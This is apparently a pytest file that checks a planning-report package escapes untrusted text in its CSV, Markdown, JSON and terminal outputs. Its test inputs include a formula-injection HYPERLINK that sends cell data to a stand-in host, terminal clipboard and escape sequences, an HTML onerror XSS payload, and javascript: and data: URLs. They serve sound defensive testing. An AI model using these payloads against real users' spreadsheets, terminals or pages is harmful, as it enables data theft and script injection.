"""Output cannot be turned against its reader: terminal, spreadsheet, Markdown, JSON, HTML.

Spec (specs/semantics.md, "Output"): "terminal and Markdown cells: controls,
bidirectional controls, tabs and newlines written as visible escapes; CSV ...
a cell of text that starts with =, +, -, @, a tab or a carriage return gets a
leading ' (OWASP's rule against formula injection), unless the whole cell is a
number; Markdown: \\, |, [, ], `, *, _ escaped with a backslash, <, > and & as
HTML entities; JSON: strict (no NaN or infinity) ...; links: only http, https
and mailto addresses become links."
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from fractions import Fraction

import attrs
import pytest

import zgc_plan
from zgc_plan._assess_report import _number as _assessment_number
from zgc_plan._characters import UNSAFE
from zgc_plan._escape import csv_cell, markdown_cell, safe_url, terminal_text
from zgc_plan._report import _round

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\tx",
    "\rx",
    "\x1b]52;c;aGk=\x07",
    "\x1b[2J",
    "a\u202eb",
    "line\nbreak",
    "a\\|b",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
]


def _evaluation(text: str) -> zgc_plan.Evaluation:
    # Built in Python: no reader stands between this text and the writers.
    observation = zgc_plan.Observation(
        "labour-productivity", 2022, Fraction(41), zgc_plan.parse_unit("万元/人"), source=text
    )
    return zgc_plan.evaluate([observation])


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_cells_are_not_formulas(text: str) -> None:
    """No cell that came from text starts with a formula prefix or holds a control."""
    rows = list(csv.DictReader(io.StringIO(_evaluation(text).to_csv())))
    for row in rows:
        for cell in row.values():
            assert not UNSAFE.search(cell)
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            if cell.startswith("-"):
                float(cell)  # a negative number, not a formula
    (source,) = [row["source"] for row in rows if row["source"]]
    assert source.startswith("'") or source[0] not in "=+-@\t\r"


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_cells_hold_no_table_syntax_or_html(text: str) -> None:
    markdown = _evaluation(text).to_markdown()
    lines = markdown.splitlines()
    header_cells = lines[0].count(" | ")
    row = next(line for line in lines if "劳动生产率" in line)
    assert len(re.findall(r"(?<!\\) \| ", row)) == header_cells  # no extra column
    assert "<" not in markdown
    assert ">" not in markdown.replace("&gt;", "")
    assert not UNSAFE.search(markdown)
    assert "\t" not in markdown


@pytest.mark.parametrize("text", HOSTILE)
def test_table_holds_no_control_character(text: str) -> None:
    table = _evaluation(text).to_table()
    assert not UNSAFE.search(table)
    assert "\t" not in table
    assert "\r" not in table


@pytest.mark.parametrize("text", HOSTILE)
def test_json_is_strict_and_escapes_bidi(text: str) -> None:
    data = _evaluation(text).to_json()
    assert not UNSAFE.search(data)

    def refuse(constant: str) -> object:
        raise AssertionError(constant)

    loaded = json.loads(data, parse_constant=refuse)
    assert text in {result["source"] for result in loaded["results"]}


def _assert_spreadsheet_safe(text: str) -> list[dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows
    for row in rows:
        for cell in row.values():
            assert not UNSAFE.search(cell)
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
    return rows


@pytest.mark.parametrize("text", HOSTILE)
def test_task_progress_csv_cells_are_not_formulas(text: str) -> None:
    """The task roll-up's CSV is for a spreadsheet too: a lead unit, a milestone
    and an override's author and reason from a user's file are escaped."""
    plan = zgc_plan.load_plan()
    report = zgc_plan.TaskReport(
        plan.tasks[0], dt.date(2020, 6, 30), zgc_plan.TaskStatus.IN_PROGRESS, lead=text,
        milestones=(zgc_plan.Milestone(text, dt.date(2020, 1, 1)),),
    )  # fmt: skip
    override = zgc_plan.Override(
        zgc_plan.OverrideKind.TASK, "task-2", zgc_plan.TaskStatus.COMPLETED, reason=text, by=text
    )
    progress = zgc_plan.roll_up_tasks([report], dt.date(2020, 12, 31), overrides=[override])
    rows = _assert_spreadsheet_safe(zgc_plan.render_progress(progress, "csv"))
    first, second = rows[0], rows[1]
    hostile = terminal_text(text)
    for cell in (first["lead"], second["override_by"], second["override_reason"]):
        assert cell in (hostile, "'" + hostile)
    assert first["overdue"].startswith(("'" + hostile, hostile))


def _assessment(text: str) -> zgc_plan.ParkAssessment:
    """An assessment whose parks are all named ``text``, built in Python past every reader."""
    observations = [
        zgc_plan.Observation.of("pct-applications", 2022, f"{100 + i}件", area=park.id)
        for i, park in enumerate(zgc_plan.load_plan().parks)
    ]
    assessment = zgc_plan.assess_parks(observations, 2022)
    return attrs.evolve(
        assessment,
        parks=tuple(
            attrs.evolve(p, area=attrs.evolve(p.area, name_zh=text)) for p in assessment.parks
        ),
    )


@pytest.mark.parametrize("text", HOSTILE)
def test_assessment_csv_cells_are_not_formulas(text: str) -> None:
    """The sub-park assessment's CSV: a park's name from a user's plan is escaped."""
    renamed = _assessment(text)
    rows = _assert_spreadsheet_safe(renamed.to_csv())
    assert {row["name_zh"] for row in rows} <= {terminal_text(text), "'" + terminal_text(text)}
    assert renamed.to_csv(bom=True) == "\ufeff" + renamed.to_csv()


@pytest.mark.parametrize("text", HOSTILE)
def test_assessment_markdown_and_table_hold_no_markup_or_controls(text: str) -> None:
    """The assessment's Markdown escapes a park's name as the evaluation's does (it escaped
    only ``|``, so ``<img onerror=...>`` passed as HTML); its table shows controls as escapes."""
    renamed = _assessment(text)
    markdown = renamed.to_markdown()
    assert "<" not in markdown
    assert ">" not in markdown.replace("&gt;", "")
    assert not UNSAFE.search(markdown)
    assert "\t" not in markdown
    row = next(line for line in markdown.splitlines() if line.startswith("| 1 |"))
    assert len(re.findall(r"(?<!\\) \| ", row)) == markdown.splitlines()[2].count(" | ")
    table = renamed.to_table()
    assert not UNSAFE.search(table)
    assert "\t" not in table


def test_non_finite_figures_are_null() -> None:
    """“JSON output always strict ... the non-finite cases shown as null”."""
    assert _round(float("inf")) is None
    assert _round(float("nan")) is None
    assert _round(1.5) == 1.5
    # The sub-park assessment's JSON too.
    assert _assessment_number(float("inf")) is None
    assert _assessment_number(float("nan")) is None
    assert _assessment_number(Fraction(3, 2)) == 1.5


def test_helpers() -> None:
    assert terminal_text("a\x1bb\u202ec\n") == "a\\x1bb\\u202ec\\n"
    assert csv_cell("=1+1") == "'=1+1"
    assert csv_cell("-3") == "-3"
    assert csv_cell(-3.5) == -3.5
    assert markdown_cell("a\\|b") == "a\\\\\\|b"
    assert markdown_cell("<b>&") == "&lt;b&gt;&amp;"


@pytest.mark.parametrize(
    ("url", "safe"),
    [
        ("https://example.org/plan", True),
        ("http://example.org", True),
        ("mailto:a@example.org", True),
        ("javascript:alert(1)", False),
        ("JaVaScRiPt:alert(1)", False),
        ("data:text/html,<script>", False),
        ("//example.org", False),
        ('https://example.org/"onmouseover=', False),
    ],
)
def test_only_http_and_mailto_links(url: str, safe: bool) -> None:
    assert (safe_url(url) is not None) is safe
